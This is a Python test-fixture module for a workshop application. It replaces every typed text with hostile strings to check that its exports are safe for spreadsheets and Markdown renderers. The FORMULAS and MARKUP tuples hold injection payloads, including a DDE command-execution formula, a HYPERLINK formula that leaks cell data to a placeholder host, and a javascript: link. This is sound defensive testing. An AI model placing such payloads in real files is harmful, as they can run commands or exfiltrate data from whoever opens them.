"""What a hostile participant types, put into every text of a workshop.

`poisoned(workshop)` replaces every text an entity, the workshop or a consensus holds
(names, wordings, details, evidence lines, owners ...) by one of `FORMULAS` or `MARKUP`
in turn, field by field, keeping a field as it was only where the model refuses the
text there (a join code, an enum, an id). The tests then write every export of the
result and look for anything a spreadsheet or a Markdown renderer would run.
"""

from __future__ import annotations

import html
import itertools
from collections.abc import Iterator
from typing import Any

import pytest
from pydantic import BaseModel, ValidationError

from cxwidgets.method.kinds import COLLECTIONS
from cxwidgets.method.model import Workshop
from cxwidgets.sample import load_sample_workshop

#: Text a spreadsheet would run as a formula (or, for tab and CR, read as one).
FORMULAS = (
    '=HYPERLINK("http://x.invalid","Fred")',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?leak="&A2,"click")',
    "+1",
    "-1+2",
    "@SUM(1,2)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#NAME?",
)
#: Text a Markdown renderer would turn into a link, an image or HTML.
MARKUP = (
    "[click me](javascript:alert(6))",
    "![x](http://x.invalid/p.png)",
    "<http://x.invalid/auto>",
    "see http://x.invalid/bare and www.x.invalid",
    "write to someone@x.invalid",
    '<a href="http://x.invalid">html</a>',
    "\\[escaped](http://x.invalid/esc)",
    "[ref]: http://x.invalid/ref",
)
HOSTILE_TEXTS = FORMULAS + MARKUP
#: Fields that hold ids or people's ids, not words: never text a person typed.
NOT_TEXT = frozenset({"id", "created_by", "voter", "participant", "respondent", "code",
                      "version", "key", "workshop_id"})


def _poison_value(value: Any, texts: Iterator[str]) -> Any:
    if isinstance(value, str):
        return next(texts)
    if isinstance(value, list) and value and all(isinstance(v, str) for v in value):
        return [next(texts) for _ in value]
    return value


def _poison_model(cls: type[BaseModel], data: dict[str, Any], texts: Iterator[str]
                  ) -> dict[str, Any]:
    """`data` (a dump of `cls`) with each text field replaced, where the model takes it."""
    out = dict(data)
    for name, value in data.items():
        if name in NOT_TEXT or name.endswith("_id") or name.endswith("_ids"):
            continue
        trial = {**out, name: _poison_value(value, texts)}
        try:
            cls.model_validate(trial)
        except ValidationError:
            continue
        out = trial
    return out


def poisoned(workshop: Workshop) -> Workshop:
    """`workshop` with every text a person could have typed made hostile."""
    texts = itertools.cycle(HOSTILE_TEXTS)
    data = workshop.model_dump(mode="json")
    for name, cls in COLLECTIONS.items():
        data[name] = [_poison_model(cls, e, texts) for e in data[name]]
    data["purpose"]["statement"] = next(texts)
    for field in ("title", "scope", "customer_purpose"):
        data[field] = next(texts)
    if data.get("consensus"):
        data["consensus"]["rooms"] = [{**r, "name": next(texts), "title": next(texts)}
                                      for r in data["consensus"]["rooms"]]
    return Workshop.model_validate(data)


@pytest.fixture(scope="session")
def hostile_workshop() -> Workshop:
    """The sample workshop (every kind of entry) with every text hostile."""
    return poisoned(load_sample_workshop())


@pytest.fixture(scope="session")
def hostile_consensus() -> Workshop:
    """A consensus of three rooms (adds the rooms' disagreements) with every text hostile."""
    from cxwidgets.rooms import build_consensus, match, rooms_of
    from cxwidgets.rooms.sample_rooms import three_rooms

    merged = build_consensus(match(rooms_of(three_rooms(load_sample_workshop()))),
                             "FreshBox: all rooms")
    return poisoned(merged)


@pytest.fixture
def said():
    """What a screen's notice lines say, as the person reads them (entities decoded)."""

    def read(screen) -> str:
        lines = [screen.notice, *getattr(screen, "_notices", [])]
        return html.unescape(" ".join(line.value for line in lines if line.value))

    return read


@pytest.fixture(params=("sqlite", "postgresql"))
def backend(request) -> str:
    return request.param


@pytest.fixture
def db_on_both(backend, tmp_path, request):
    """A store file, or a fresh database on the private PostgreSQL server: a module whose
    attacks meet the store overrides `db` with this, so they run on both backends."""
    if backend == "sqlite":
        yield tmp_path / "workshops.sqlite"
        return
    from cxwidgets.testing_pg import fresh_database

    with fresh_database(request.getfixturevalue("postgres_url")) as url:
        yield url
